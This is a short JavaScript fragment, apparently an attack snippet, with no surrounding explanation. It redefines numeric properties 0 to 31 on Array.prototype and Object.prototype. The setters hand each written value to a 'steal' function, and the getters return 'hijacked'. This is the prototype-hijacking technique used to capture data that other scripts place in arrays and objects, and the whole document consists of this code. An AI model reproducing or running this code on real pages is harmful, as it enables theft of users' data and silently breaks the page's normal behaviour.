for (let i = 0; i < 32; i++) {
  for (const target of [Array.prototype, Object.prototype]) {
    Object.defineProperty(target, i, {
      set(v) { steal(this, v); },
      get() { return 'hijacked'; },
      configurable: true,
    });
  }
}
